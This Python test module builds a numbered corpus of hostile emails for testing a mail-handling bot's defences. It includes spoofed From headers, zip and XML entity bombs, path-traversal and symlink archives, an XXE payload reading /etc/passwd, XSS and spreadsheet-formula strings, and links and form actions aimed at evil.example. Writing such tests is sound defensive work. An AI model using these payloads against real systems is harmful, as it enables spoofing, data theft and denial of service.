"""Hostile mails, each made here, with what is expected of each: the faults and threats that mailbot must survive.

`H1`… number the threat model's corpus. An entry's mail is what a stranger, or whoever holds a unit's account,
could send; `expects` names what must come of it, and only that.
"""

import base64
import gzip
import io
import struct
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

from extract.papers import docx, overlapped_zip, paragraph, pdf, real, winmail, zipped

UNIT = "sotaichinh@thainguyen.example"
OTHER = "soxaydung@thainguyen.example"
OFFICE = "baocao@thainguyen.example"
TITLE = "Bao cao thang 6 nam 2014"
PDF = real("report.pdf")
B = b"--b\r\n"


@dataclass(frozen=True, kw_only=True)
class Entry:
    """One mail and what must come of it; see `test_corpus.got` for the names that `expects` may use."""

    id: str
    about: str
    raw: Callable[[], bytes]
    expects: dict[str, Any] = field(default_factory=dict)


ENTRIES: list[Entry] = []


def entry(id: str, about: str, raw: bytes | Callable[[], bytes], **expects: Any) -> None:  # noqa: A002
    made = (lambda: raw) if isinstance(raw, bytes) else raw
    ENTRIES.append(Entry(id=id, about=about, raw=made, expects=expects))


def mail(
    *fields: bytes, sender: bytes | None = None, subject: bytes = TITLE.encode(), body: bytes = b"x"
) -> bytes:
    """A mail with these fields, then a sound From and Subject unless they are given or empty."""
    head = list(fields)
    if sender is None:
        head.append(b"From: " + UNIT.encode())
    elif sender:
        head.append(sender)
    if subject:
        head.append(b"Subject: " + subject)
    return b"\r\n".join([*head, b"To: " + OFFICE.encode(), b"", body, b""])


def parts(
    *inside: bytes, kind: bytes = b'mixed; boundary="b"', before: bytes = b"", after: bytes = b"", **more: Any
) -> bytes:
    """A mail of these parts, each with its own headers."""
    body = before + b"".join(B + part + b"\r\n" for part in inside) + b"--b--\r\n" + after
    return mail(b"MIME-Version: 1.0", b"Content-Type: multipart/" + kind, body=body, **more)


TEXT = b"Content-Type: text/plain; charset=utf-8\r\n\r\nKinh gui Van phong"


def file(
    octets: bytes = PDF, named: bytes = b'filename="bao cao.pdf"', *fields: bytes, encoding: bytes = b"base64"
) -> bytes:
    head = [b"Content-Type: application/octet-stream", b"Content-Disposition: attachment; " + named, *fields]
    coded = base64.encodebytes(octets).replace(b"\n", b"\r\n") if encoding == b"base64" else octets
    return b"\r\n".join([*head, b"Content-Transfer-Encoding: " + encoding, b"", coded])


def with_file(*given: Any, **more: Any) -> Callable[[], bytes]:
    return lambda: parts(TEXT, file(*given, **more))


def report_in(octets: bytes, name: str) -> Callable[[], bytes]:
    return lambda: parts(TEXT, file(octets, f'filename="{name}"'.encode()))


NOBODY = {"sender": None, "answered": False}
ASKED = {"kind": "unclear", "question": "unreadable"}

# --- who sent it ---------------------------------------------------------------------------------------------

EVIL = b"ke.xau@evil.example"
for number, about, head in (
    ("H1", "two From, the evil one first", (b"From: " + EVIL, b"From: " + UNIT.encode())),
    ("H2", "two From, the evil one second", (b"From: " + UNIT.encode(), b"From: " + EVIL)),
    ("H3", "From begins with a space", (b" From: " + UNIT.encode(), b"From: " + EVIL, b"From: " + UNIT.encode())),
    ("H4", "a space before the colon", (b"From : " + UNIT.encode(),)),
    ("H5", "From folded before its colon", (b"From\r\n : " + UNIT.encode(),)),
    ("H6", "no From, only Sender", (b"Sender: " + UNIT.encode(),)),
    ("H7", "only Resent-From", (b"Resent-From: " + UNIT.encode(),)),
    ("H8", "two addresses in From", (b"From: " + UNIT.encode() + b", " + EVIL,)),
    ("H9", "an encoded word as the address", (b"From: =?utf-8?Q?" + UNIT.encode().replace(b"@", b"=40") + b"?=",)),
    ("H10", "a source route", (b"From: <@" + EVIL + b":" + UNIT.encode() + b">",)),
    ("H11", "a quoted comma", (b'From: "a\\,b" <' + UNIT.encode() + b">, <" + EVIL + b">",)),
    ("H12", "a bare address, then one in brackets", (b"From: " + UNIT.encode() + b" <" + EVIL + b">",)),
    ("H13", "an address in brackets, then a bare one", (b"From: <" + UNIT.encode() + b"> " + EVIL,)),
    ("H14", "a group", (b"From: nhom: " + UNIT.encode() + b";",)),
    ("H16", "an address in a comment", (b"From: " + UNIT.encode() + b" (" + EVIL + b")",)),
    ("H17", "NUL in From", (b"From: " + UNIT.encode()[:5] + b"\x00" + UNIT.encode()[5:],)),
    ("H23", "From by way of a bare CR in Subject", (b"Subject: x\rFrom: " + UNIT.encode(), b"From: " + EVIL)),
):  # fmt: skip
    entry(
        number,
        about,
        mail(*head, sender=b"", subject=b"" if number == "H23" else TITLE.encode()),
        unit=None,
        answered=False,
    )
entry(
    "H15", "another's address as display name", mail(sender=f'From: "{OTHER}" <{UNIT}>'.encode()), sender=UNIT
)
entry(
    "H18",
    "NUL in an encoded display name",
    mail(sender=f"From: =?utf-8?Q?S=E1=BB=9F=00X?= <{UNIT}>".encode()),
    sender=UNIT,
    visible=True,
)
entry(
    "H19",
    "Cyrillic letters in the domain",
    mail(sender="From: sotaichinh@thainguуen.example".encode()),
    unit=None,
    answered=False,
)
entry(
    "H19b",
    "a domain in punycode",
    mail(sender=b"From: sotaichinh@xn--thainguen-ovi.example"),
    unit=None,
    answered=False,
)
entry(
    "H20",
    "a zero-width space in the local part",
    mail(sender="From: sotai\u200bchinh@thainguyen.example".encode()),
    **NOBODY,
)
entry(
    "H20b",
    "mixed scripts in the local part",
    mail(sender="From: sоtaichinh@thainguyen.example".encode()),
    unit=None,
    answered=False,
)

# --- who is not to be answered, and which time counts ------------------------------------------------------------

entry("H32", "no Message-ID", mail(), kind="unclear")
entry("H32b", "ten Message-IDs", mail(*(b"Message-ID: <%d@x>" % n for n in range(10))), **ASKED)
entry(
    "H32c",
    "a Message-ID of 100 KiB",
    lambda: mail(b"Message-ID: <" + b"x" * (100 << 10) + b"@x>"),
    defect="over budget: header block",
    sender=UNIT,
)
for number, when in (
    ("H33", b"Thu, 01 Jan 1970 00:00:00 +0000"),
    ("H33b", b"Fri, 31 Dec 2099 00:00:00 +0700"),
    ("H33c", b"hom qua"),
    ("H33d", b"Mon, 31 Feb 0000 25:61:61 +9999"),
):
    entry(number, f"Date: {when.decode()}", mail(b"Date: " + when), sender=UNIT, arrived="2014-06-23")
entry(
    "H36",
    "Received with an impossible zone",
    mail(b"Received: by mx; Mon, 23 Jun 2014 08:00:00 +9999"),
    sender=UNIT,
    arrived="2014-06-23",
)
entry(
    "H41", "Reply-To a victim", mail(b"Reply-To: nan.nhan@victim.example"), not_to="nan.nhan@victim.example"
)
entry("H42", "a null return path", mail(b"Return-Path: <>"), sender=UNIT)
for number, line in (
    ("H43", b"Auto-Submitted: auto-replied"), ("H43b", b"auto-SUBMITTED: Auto-Generated"), ("H43c", b"Auto-Submitted: (x) auto-replied (y)"),
    ("H44", b"Precedence: bulk"), ("H44b", b"Precedence: LIST"), ("H44c", b"List-Id: <x.example>"), ("H44d", b"X-Autoreply: yes"),
):  # fmt: skip
    entry(number, line.decode(), mail(line), kind="auto_reply", answered=False)
entry(
    "H45",
    "receipts asked for",
    mail(b"Disposition-Notification-To: " + EVIL, b"Return-Receipt-To: " + EVIL),
    not_to=EVIL.decode(),
)
entry("H45f", "sent from our own address", mail(sender=b"From: " + OFFICE.encode()), answered=False)
entry(
    "H45g", "sixty Received", mail(*[b"Received: by mx; Mon, 23 Jun 2014 08:00:00 +0700"] * 60), sender=UNIT
)

# --- parsers and resources ---------------------------------------------------------------------------------------

entry("H46", "an unterminated quote", mail(b'Cc: "'), sender=UNIT)
entry(
    "H46b",
    "an unterminated quote in From",
    mail(sender=b'From: "So Tai chinh <' + UNIT.encode() + b">"),
    answered=False,
)
entry("H47", "a parameter without value", mail(b"Content-Type: text/plain; name*"), sender=UNIT)
entry("H48", "a group of comments only", mail(b"Cc: (c):"), sender=UNIT)
entry("H49", "20,000 comments", lambda: mail(b"Cc: " + b"(c)" * 20_000), sender=UNIT)
entry(
    "H50",
    "100,000 header lines",
    lambda: mail(*[b"X-A: b"] * 100_000),
    sender=UNIT,
    defect="over budget: header block",
    **ASKED,
)
entry(
    "H51",
    "a header line of 1 MB",
    lambda: mail(b"X-A: " + b"x" * (1 << 20)),
    kind="unclear",
    defect="over budget: header block",
)
entry(
    "H52",
    "100,000 encoded words",
    lambda: mail(subject=b" ".join([b"=?utf-8?Q?a?="] * 100_000)),
    kind="unclear",
    defect="over budget: header block",
)
entry(
    "H53",
    "40,000 recipients",
    lambda: mail(b"Cc: " + b", ".join(b"a%d@x.example" % n for n in range(40_000))),
    kind="unclear",
    defect="over budget: header block",
)


def nested(depth: int) -> bytes:
    head = b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(depth)
    )
    return mail(b"MIME-Version: 1.0", body=b"").rstrip(b"\r\n") + b"\r\n" + head + b"\r\nx"


entry("H54", "1,000 multiparts within each other", lambda: nested(1_000), defect="over budget", **ASKED)
entry("H55", "10,000 multiparts within each other", lambda: nested(10_000), defect="over budget", **ASKED)
entry(
    "H56",
    "5,000 mails within each other",
    lambda: (
        mail(subject=TITLE.encode()).replace(b"\r\n\r\n", b"\r\nContent-Type: message/rfc822\r\n\r\n", 1)
        + b"Content-Type: message/rfc822\r\n\r\n" * 5_000
    ),
    survives=True,
)
entry(
    "H57",
    "100,000 empty parts",
    lambda: mail(b'Content-Type: multipart/mixed; boundary="b"', body=b"--b\r\n\r\n" * 100_000),
    defect="over budget: number of parts",
    **ASKED,
)
entry(
    "H58",
    "a boundary of 1 MB",
    lambda: mail(b'Content-Type: multipart/mixed; boundary="' + b"b" * (1 << 20) + b'"'),
    kind="unclear",
)
entry(
    "H58b",
    "an empty boundary",
    mail(b'Content-Type: multipart/mixed; boundary=""', body=b"--\r\n\r\nx\r\n----"),
    **ASKED,
)
entry(
    "H58c",
    "a boundary of signs that patterns know",
    mail(
        b'Content-Type: multipart/mixed; boundary=".*+?[](){}|^$"',
        body=b"--.*+?[](){}|^$\r\n" + file() + b"\r\n--.*+?[](){}|^$--",
    ),
    names=["bao cao.pdf"],
)
inner_same = b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n\r\nx\r\n--b--'
entry("H58d", "an inner boundary equal to the outer", parts(TEXT, inner_same), **ASKED)
inner_prefix = b'Content-Type: multipart/mixed; boundary="bb"\r\n\r\n--bb\r\n\r\nx\r\n--bb--'
entry("H58e", "a boundary that begins another", parts(TEXT, inner_prefix), **ASKED)
entry(
    "H59",
    "a file of 50 MB",
    lambda: parts(TEXT, file(bytes(50 << 20), b'filename="to.bin"')),
    sender=UNIT,
    survives=True,
)
entry(
    "H60",
    "150 MB of base64 on one line",
    lambda: parts(TEXT, file(b"A" * (150 << 20), encoding=b"7bit").replace(b": 7bit", b": base64")),
    sender=UNIT,
    survives=True,
)
entry(
    "H61",
    "a zip that unpacks to gigabytes",
    lambda: parts(TEXT, file(zipped({"a.txt": bytes(200 << 20)}), b'filename="a.zip"')),
    natures=["over_limit"],
)
entry(
    "H62",
    "a zip of overlapping entries",
    lambda: parts(TEXT, file(overlapped_zip(250, 1 << 20), b'filename="a.zip"')),
    natures=["over_limit"],
)


def in_each_other(depth: int) -> bytes:
    inside = docx(paragraph("BAO CAO"))
    for number in range(depth):
        inside = zipped({f"{number}.zip": inside})
    return inside


entry(
    "H63",
    "zips within zips within zips",
    lambda: parts(TEXT, file(in_each_other(40), b'filename="a.zip"')),
    natures=["over_limit"],
)
entry(
    "H63b",
    "names in a zip that lead out",
    lambda: parts(
        TEXT,
        file(zipped({"../../etc/x.txt": "bao cao", "/abs.txt": "x", "C:\\y.txt": "z"}), b'filename="a.zip"'),
    ),
    defect="a name that leads out of a.zip",
)


def zip_with_link() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        link = zipfile.ZipInfo("lien-ket")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return buffer.getvalue()


entry(
    "H63c",
    "a symbolic link in a zip",
    lambda: parts(TEXT, file(zip_with_link(), b'filename="a.zip"')),
    never="root:",
)
entry(
    "H63d",
    "as many entries as a zip can count",
    lambda: parts(TEXT, file(overlapped_zip(65_535, 10), b'filename="a.zip"')),
    natures=["over_limit"],
)
BOMB = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)


def workbook(sheet: str) -> bytes:
    return zipped(
        {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": f"{sheet}", "xl/worksheets/sheet1.xml": sheet}
    )


entry(
    "H64",
    "a workbook with an entity bomb",
    lambda: parts(TEXT, file(workbook(f"{BOMB}<x>&j;</x>"), b'filename="a.xlsx"')),
    survives=True,
)
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document xmlns:w="w"><w:t>&e;</w:t></w:document>'
entry(
    "H64b",
    "a document that asks for a file",
    lambda: parts(
        TEXT,
        file(zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": XXE}), b'filename="a.docx"'),
    ),
    never="root:",
)
entry(
    "H64c",
    "a sheet of a million rows and columns",
    lambda: parts(
        TEXT,
        file(
            workbook(
                '<worksheet><dimension ref="A1:XFD1048576"/><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
            ),
            b'filename="a.xlsx"',
        ),
    ),
    survives=True,
)
JS = (
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
    b"<< /Type /Pages /Kids [] /Count 0 >>",
)
entry("H65", "a PDF with a script", report_in(pdf(*JS), "a.pdf"), survives=True)
entry(
    "H65b",
    "a PDF of 100,000 objects",
    lambda: parts(TEXT, file(pdf(*[b"<< >>"] * 100_000), b'filename="a.pdf"')),
    survives=True,
)


def tarred() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        link = tarfile.TarInfo("etc")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    return buffer.getvalue()


for number, octets, name in (
    ("H66", gzip.compress(b"bao cao"), "a.docx"), ("H66b", tarred(), "a.pdf"), ("H66c", real("open.7z"), "a.xlsx"),
    ("H66d", b"Rar!\x1a\x07\x01\x00" + bytes(200), "a.doc"), ("H66e", b"MZ\x90\x00" + bytes(500), "bao cao.pdf"),
):  # fmt: skip
    entry(number, f"an archive or program called {name}", report_in(octets, name), never="root:")
entry(
    "H67",
    "a picture of 60,000 by 60,000",
    report_in(b"\x89PNG\r\n\x1a\n" + bytes(8) + struct.pack(">II", 60_000, 60_000) + bytes(64), "a.png"),
    survives=True,
)
entry(
    "H68",
    "a text with one line of 50 MB",
    lambda: parts(TEXT, file(b"a" * (50 << 20), b'filename="a.txt"')),
    survives=True,
)
for number, charset in (
    ("H69", b"khong-co"),
    ("H69b", b"rot13"),
    ("H69c", b"idna"),
    ("H69d", b"utf-7"),
    ("H69e", b"utf-16"),
    ("H69f", b"utf-8\x00"),
    ("H69g", b"unicode_escape"),
    ("H69h", b"zlib"),
    ("H69i", b"../../x"),
):
    entry(
        number,
        f"charset {charset!r}",
        mail(b"Content-Type: text/plain; charset=" + charset, body=b"Kinh gui"),
        survives=True,
        visible=True,
    )
entry(
    "H70",
    "octets that are no UTF-8",
    mail(
        b"Content-Type: text/plain; charset=utf-8",
        subject=b"\xff\xfe \xc0\x80 \xed\xa0\x80 \xf4\x90\x80\x80",
        body=b"\xff\xc0\x80\xed\xa0\x80",
    ),
    sender=UNIT,
    visible=True,
)

# --- one mail, two readings --------------------------------------------------------------------------------------

entry(
    "H71",
    "two Content-Types",
    mail(
        b"Content-Type: text/plain",
        b'Content-Type: multipart/mixed; boundary="b"',
        body=B + file() + b"\r\n--b--",
    ),
    **ASKED,
)
entry(
    "H72",
    "two transfer encodings",
    mail(b"Content-Transfer-Encoding: base64", b"Content-Transfer-Encoding: 7bit", body=b"eA=="),
    **ASKED,
)
for number, encoding in (("H73", b"base64x"), ("H73b", b"b a s e 6 4"), ("H73c", b"uuencode")):
    entry(number, f"the transfer encoding {encoding.decode()}", with_file(encoding=encoding), **ASKED)
entry(
    "H74",
    "base64 that goes on after its padding",
    lambda: parts(
        TEXT, file(b"eA==\r\nTVqQAAMAAAAEAAAA\r\n", encoding=b"7bit").replace(b": 7bit", b": base64")
    ),
    **ASKED,
)
entry(
    "H74b",
    "base64 with foreign signs",
    lambda: parts(
        TEXT,
        file(base64.b64encode(PDF).replace(b"A", b"A!*\x80"), encoding=b"7bit").replace(
            b": 7bit", b": base64"
        ),
    ),
    natures=["read"],
)
entry(
    "H75",
    "a soft break inside an escape",
    mail(b"Content-Transfer-Encoding: quoted-printable", body=b"B=C3=\r\n=A1o c=\r\nao =4"),
    sender=UNIT,
)
entry(
    "H76",
    "no closing boundary",
    mail(b'Content-Type: multipart/mixed; boundary="b"', body=B + TEXT + b"\r\n" + B + file()),
    names=["bao cao.pdf"],
    defect="closing boundary missing",
)
hidden = B + file(PDF, b'filename="an.pdf"') + b"\r\n--b--"
entry("H77", "a file after the closing boundary", parts(TEXT, after=hidden), **ASKED)
entry(
    "H78",
    "a file before the first boundary",
    parts(TEXT, before=file(PDF, b'filename="an.pdf"') + b"\r\n"),
    **ASKED,
)
entry("H79", "a multipart without boundary", mail(b"Content-Type: multipart/mixed", body=hidden), **ASKED)
entry(
    "H80",
    "a boundary with a space at its end",
    parts(TEXT, file(), kind=b'mixed; boundary="b "'),
    names=["bao cao.pdf"],
)
entry(
    "H80b",
    "a boundary in pieces",
    parts(TEXT, file(), kind=b"mixed; boundary*0=b; boundary*1="),
    names=["bao cao.pdf"],
)
entry(
    "H81",
    "three names for one file",
    with_file(
        PDF,
        b"filename=\"a.exe\"; filename*=utf-8''bao%20cao.pdf",
        b'Content-Type: application/pdf; name="c.zip"',
    ),
    **ASKED,
)
entry(
    "H82",
    "pieces of a name doubled",
    with_file(PDF, b'filename*0="a"; filename*0="b"; filename*1=".pdf"'),
    **ASKED,
)
entry(
    "H82b",
    "pieces of a name out of order",
    with_file(PDF, b'filename*1="cao.pdf"; filename*0="bao "'),
    names=["bao cao.pdf"],
)
entry(
    "H82c",
    "a piece with a huge number",
    with_file(PDF, b'filename*0="a"; filename*99999999999999999="b.pdf"'),
    **ASKED,
)
entry("H83", "a mail in pieces", mail(b'Content-Type: message/partial; id="x"; number=1; total=2'), **ASKED)
entry(
    "H83b",
    "a part that is to be fetched",
    parts(
        TEXT,
        b'Content-Type: message/external-body; access-type=URL; URL="http://evil.example/"\r\n\r\nContent-Type: application/pdf\r\n\r\n',
    ),
    **ASKED,
)
entry(
    "H83c",
    "winmail.dat",
    lambda: parts(
        TEXT, file(winmail(("bao cao.txt", b"BAO CAO thang 6 nam 2014")), b'filename="winmail.dat"')
    ),
    natures=["read"],
)
entry(
    "H84",
    "HTML called plain text",
    mail(b"Content-Type: text/plain", body=b"<script>alert(1)</script><b>x</b>"),
    sender=UNIT,
)
SAYS = b"Content-Type: text/%s; charset=utf-8\r\n\r\n%s"
ONE = b"bao cao thang sau cua so tai chinh gui van phong uy ban nhan dan tinh thai nguyen kinh gui lanh dao"
TWO = b"<p>mot hai ba bon nam sau bay tam chin muoi gap nhau tai quan nuoc dau lang luc chieu toi roi di choi</p>"
entry(
    "H84b",
    "plain text and HTML that say different things",
    parts(SAYS % (b"plain", ONE), SAYS % (b"html", TWO), kind=b'alternative; boundary="b"'),
    **ASKED,
)

# --- what comes out again ----------------------------------------------------------------------------------------

for number, words in (
    ("H85", "<script>alert(1)</script><img src=x onerror=alert(1)>"), ("H85b", "<svg><animate onbegin=alert(1)>"),
    ("H86", '"><meta http-equiv=refresh content=0;url=//evil.example>'), ("H88", "<style>@import'//evil.example'</style>"),
    ("H89", "javascript:alert(1) data:text/html,x"), ("H90", "<noscript><p title='</noscript><img src=x onerror=1>'>"),
    ("H91", "<form action=//evil.example><input name='"), ("H93", "{{7*7}} ${7*7} %s {0.__class__} {% raw %}"),
    ("H95", '=HYPERLINK("http://evil.example")'), ("H95b", "+1+1"), ("H95c", "@SUM(1)"), ("H95d", "\uff1d1+1"), ("H96", '";=1+1'),
    ("H97", "a\x0bb"), ("H98", "x\r\nBcc: v@evil.example"), ("H99", "a\u2028b\u2029c\x85d\x0be\x0cf"),
    ("H105", "\x1b[31mdo\x1b]0;x\x07\x9b2J"), ("H107", "\u2066a\u2069\u200d\u200cb\U000e0041"),
    ("H108", "Z" + "\u0301\u0327\u0334" * 200), ("H109", "a\nb\nc"),
):  # fmt: skip
    coded = b"=?utf-8?B?" + base64.b64encode(words.encode("utf-8", "surrogatepass")) + b"?="
    entry(
        number,
        f"subject, display name and file name {words[:40]!a}",
        lambda coded=coded: parts(
            TEXT,
            file(PDF, b'filename="' + coded + b'.pdf"'),
            sender=b"From: " + coded + b" <" + UNIT.encode() + b">",
            subject=coded,
        ),
        sender=UNIT,
        visible=True,
        rendered=True,
    )
entry(
    "H92",
    "a subject of 4 MB",
    lambda: mail(subject=b"a" * (4 << 20)),
    defect="over budget: header block",
    kind="unclear",
)
entry(
    "H100",
    "half a surrogate pair",
    mail(subject=b"=?utf-16?B?2AA=?= =?utf-8?Q?=ED=A0=80?="),
    sender=UNIT,
    visible=True,
    rendered=True,
)
LONG = "a" * 500
for number, name in (
    ("H101", f"{LONG}.pdf"), ("H106", "báo cáo\u202efdp.exe"), ("H110", "../../etc/x.pdf"), ("H110b", "/etc/x.pdf"),
    ("H110c", "C:\\x.pdf"), ("H110d", "\\\\may\\x.pdf"), ("H110e", "a\x00b.pdf"), ("H111", "CON"), ("H111b", "a.pdf. "),
    ("H111c", "a.pdf:$DATA"), ("H112", "A\u0301.pdf"), ("H113", ""), ("H113b", "..."),
):  # fmt: skip
    quoted = b"=?utf-8?B?" + base64.b64encode(name.encode()) + b"?="
    entry(
        number,
        f"the file name {name[:30]!a}",
        with_file(PDF, b'filename="' + quoted + b'"'),
        natures=["read"],
        visible=True,
        plain_names=True,
    )
for number, name in (
    ("H117", "locked.zip"),
    ("H117b", "locked.7z"),
    ("H117c", "locked.pdf"),
    ("H117d", "locked.doc"),
):
    entry(
        number,
        f"what only a password opens: {name}",
        report_in(real(name), name),
        natures=["encrypted"],
        kind="unclear",
        question="locked",
    )
P7M = (
    b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Disposition: attachment; filename=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    + base64.encodebytes(bytes.fromhex("3080060a2a864886f70d010703a080") + bytes(200))
)
entry("H118", "a mail encrypted by S/MIME", parts(P7M), natures=["encrypted"], kind="unclear")
PGP = b'Content-Type: application/octet-stream; name="encrypted.asc"\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQEM\r\n-----END PGP MESSAGE-----\r\n'
entry(
    "H118b",
    "a mail encrypted by OpenPGP",
    parts(
        b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1",
        PGP,
        kind=b'encrypted; protocol="application/pgp-encrypted"; boundary="b"',
    ),
    kind="unclear",
)
entry(
    "H119",
    "an invitation",
    parts(TEXT, b"Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nEND:VCALENDAR"),
    sender=UNIT,
)
for number, raw in (
    ("H120", b"x"),
    ("H120b", b""),
    ("H120c", b"\n\n\n"),
    ("H120d", b"\x00" * 1_000),
    ("H120e", b"From "),
    ("H120f", b"\r"),
):
    entry(number, f"a mail that is {raw[:5]!r}", raw, sender=None, answered=False)


def entries() -> Iterator[Entry]:
    yield from ENTRIES
